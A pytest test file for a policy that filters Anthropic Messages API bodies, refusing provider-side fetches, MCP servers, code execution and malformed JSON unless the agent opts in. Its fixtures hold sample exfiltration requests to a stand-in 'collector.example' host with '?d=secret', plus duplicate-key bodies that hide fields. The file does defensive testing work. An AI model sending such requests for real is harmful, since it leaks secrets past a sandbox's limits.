"""The Messages body policy: what real Claude Code sends passes; everything that makes the provider reach out
on the bottle's behalf is refused, with a reason, unless the agent opted in."""

from __future__ import annotations

import json
from pathlib import Path
from typing import Any

import pytest

from claude_bottle.policy.messages import (
    InvalidServerTool,
    MessagesPolicy,
    family,
    parse_server_tool,
)

TESTDATA = Path(__file__).resolve().parents[1] / "testdata"
CAPTURED = ("claude-code-messages.json", "claude-code-web-search.json", "claude-code-web-fetch-summary.json")


def body(**fields: Any) -> bytes:
    return json.dumps({"model": "m", "max_tokens": 1, "messages": [{"role": "user", "content": "hi"}],
                       **fields}).encode()


def user(*blocks: Any) -> list[dict[str, Any]]:
    return [{"role": "user", "content": list(blocks)}]


URL_IMAGE = {"type": "image", "source": {"type": "url", "url": "https://collector.example/x.png?d=secret"}}
URL_DOCUMENT = {"type": "document", "source": {"type": "url", "url": "https://collector.example/a.pdf"}}
FETCH_USE = {"type": "server_tool_use", "id": "srvtoolu_1", "name": "web_fetch",
             "input": {"url": "https://collector.example/?d=secret"}}

CASES: list[tuple[str, bytes, bool, int, list[str]]] = [
    # (id, body, allowed, status of a refusal, words in the reason)
    ("plain", body(), True, 403, ["no provider-side fetch"]),
    ("client tool", body(tools=[{"name": "Bash", "input_schema": {"type": "object"}}]), True, 403, []),
    ("custom tool", body(tools=[{"type": "custom", "name": "x", "input_schema": {}}]), True, 403, []),
    ("web search as Claude Code sends it",
     body(tools=[{"type": "web_search_20250305", "name": "web_search", "max_uses": 8}]), True, 403, []),
    ("mcp_servers", body(mcp_servers=[{"type": "url", "url": "https://collector.example/sse", "name": "c",
                                       "authorization_token": "data"}]), False, 403, ["mcp_servers", "[mcp]"]),
    ("empty mcp_servers", body(mcp_servers=[]), False, 403, ["mcp_servers"]),
    ("container", body(container={"skills": [{"type": "anthropic", "skill_id": "pptx"}]}), False, 403,
     ["container is refused", 'server_tools = ["code_execution"]']),
    ("web fetch", body(tools=[{"type": "web_fetch_20250910", "name": "web_fetch"}]), False, 403,
     ["web_fetch_20250910", "fetches URLs", 'server_tools = ["web_fetch"]']),
    ("code execution", body(tools=[{"type": "code_execution_20250825", "name": "code_execution"}]), False, 403,
     ["code_execution_20250825", "runs code"]),
    ("a newer web search", body(tools=[{"type": "web_search_20260209", "name": "web_search"}]), False, 403,
     ["web_search_20260209", 'server_tools = ["web_search"]']),
    ("unknown server tool", body(tools=[{"type": "url_context_20990101", "name": "u"}]), False, 403,
     ["url_context_20990101", "does not know"]),
    ("undated unknown type", body(tools=[{"type": "browser", "name": "b"}]), False, 403, ["browser"]),
    ("mcp toolset", body(tools=[{"type": "mcp_toolset", "mcp_server_name": "c"}]), False, 403, ["mcp_toolset"]),
    ("type not a string", body(tools=[{"type": 1, "name": "x"}]), False, 400, ["tools[0].type"]),
    ("tools not a list", body(tools={"type": "web_fetch_20250910"}), False, 400, ["tools is not a list"]),
    ("image by URL", body(messages=user(URL_IMAGE)), False, 403, ["image", "'url'", "fetch"]),
    ("document by URL", body(messages=user(URL_DOCUMENT)), False, 403, ["document", "'url'"]),
    ("image by URL in a tool result",
     body(messages=user({"type": "tool_result", "tool_use_id": "t", "content": [URL_IMAGE]})), False, 403,
     ["image"]),
    ("document by URL in a document's content",
     body(messages=user({"type": "document", "source": {"type": "content", "content": [URL_DOCUMENT]}})),
     False, 403, ["document"]),
    ("image by URL in the system prompt", body(system=[URL_IMAGE]), False, 403, ["image"]),
    ("unknown source type", body(messages=user({"type": "image", "source": {"type": "s3"}})), False, 403,
     ["'s3'"]),
    ("base64 image", body(messages=user({"type": "image", "source": {"type": "base64", "media_type": "image/png",
                                                                      "data": "iVBORw0KGgo="}})), True, 403, []),
    ("server_tool_use continued without its tool",
     body(messages=[*user({"type": "text", "text": "go"}), {"role": "assistant", "content": [FETCH_USE]}]),
     False, 403, ["server_tool_use", "web_fetch"]),
    ("server_tool_use of the declared web search",
     body(tools=[{"type": "web_search_20250305", "name": "web_search"}],
          messages=[*user({"type": "text", "text": "go"}), {"role": "assistant", "content": [
              {"type": "server_tool_use", "id": "s", "name": "web_search", "input": {"query": "q"}}]}]),
     True, 403, []),
    ("mcp_tool_use", body(messages=[{"role": "assistant", "content": [
        {"type": "mcp_tool_use", "id": "m", "name": "leak", "server_name": "c", "input": {}}]}]), False, 403,
     ["mcp_tool_use"]),
    ("duplicate key hides mcp_servers",
     b'{"model":"m","mcp_servers":[{"url":"https://collector.example"}],"mcp_servers":[]}', False, 400,
     ["duplicate key 'mcp_servers'"]),
    ("duplicate key hides a tool",
     b'{"tools":[{"type":"web_fetch_20250910","type":"custom","name":"x"}]}', False, 400, ["duplicate key"]),
    ("NaN", b'{"model":"m","temperature":NaN}', False, 400, ["NaN"]),
    ("not UTF-8", '{"model":"m"}'.encode("utf-16"), False, 400, ["not a plain JSON object"]),
    ("UTF-8 byte order mark", b'\xef\xbb\xbf{"model":"m"}', False, 400, ["not a plain JSON object"]),
    ("not JSON", b"model=m", False, 400, ["not a plain JSON object"]),
    ("a JSON array", b"[]", False, 400, ["not a JSON object"]),
    ("empty", b"", False, 400, ["not a plain JSON object"]),
    ("deeply nested", b'{"a":' * 100_000 + b"1" + b"}" * 100_000, False, 400, ["not a plain JSON object"]),
]


@pytest.mark.parametrize(("body_", "allow", "status", "words"), [c[1:] for c in CASES], ids=[c[0] for c in CASES])
def test_decide(body_: bytes, allow: bool, status: int, words: list[str]) -> None:
    decision = MessagesPolicy().decide(body_)
    assert decision.allow is allow, decision.reason
    if not allow:
        assert decision.status == status
    for word in words:
        assert word in decision.reason, (word, decision.reason)


@pytest.mark.parametrize("name", CAPTURED)
def test_what_claude_code_sends_passes(name: str) -> None:
    """Bodies captured from Claude Code 2.1.126: an ordinary turn, its WebSearch call, its WebFetch summary."""
    decision = MessagesPolicy().decide((TESTDATA / name).read_bytes())
    assert decision.allow, decision.reason


OPT_IN = [
    # (opted in, tool type, allowed)
    (("web_fetch",), "web_fetch_20250910", True),
    (("web_fetch",), "web_fetch_20990101", True),
    (("web_fetch",), "code_execution_20250825", False),
    (("code_execution",), "code_execution_20250825", True),
    (("web_search",), "web_search_20260209", True),
    (("web_fetch", "code_execution"), "url_context_20990101", False),
]


@pytest.mark.parametrize(("families", "kind", "allow"), OPT_IN)
def test_opting_in_allows_that_family_only(families: tuple[str, ...], kind: str, allow: bool) -> None:
    decision = MessagesPolicy(frozenset(families)).decide(body(tools=[{"type": kind, "name": "t"}]))
    assert decision.allow is allow, decision.reason
    if allow:
        assert all(f in decision.reason for f in families)


def test_opting_in_does_not_allow_mcp_servers_or_url_sources() -> None:
    policy = MessagesPolicy(frozenset({"web_fetch", "code_execution", "web_search"}))
    assert not policy.decide(body(mcp_servers=[{"url": "https://c.example"}])).allow
    assert not policy.decide(body(messages=user(URL_IMAGE))).allow
    assert policy.decide(body(container="container_011CU")).allow, "a container goes with code execution"


@pytest.mark.parametrize(("name", "problem"), [
    ("web_fetch_20250910", "without its version date, e.g. 'web_fetch'"),
    ("web-fetch", "is not a server tool (known: web_search, web_fetch"),
    ("", "is not a server tool"),
    ("mcp_servers", "is not a server tool"),
])
def test_parse_server_tool_errors(name: str, problem: str) -> None:
    with pytest.raises(InvalidServerTool, match=problem.replace("(", r"\(").replace("[", r"\[")):
        parse_server_tool(name)


def test_family() -> None:
    assert family("web_fetch_20250910") == "web_fetch"
    assert family("tool_search_tool_regex_20251119") == "tool_search_tool_regex"
    assert family("custom") is None and family("web_fetch") is None
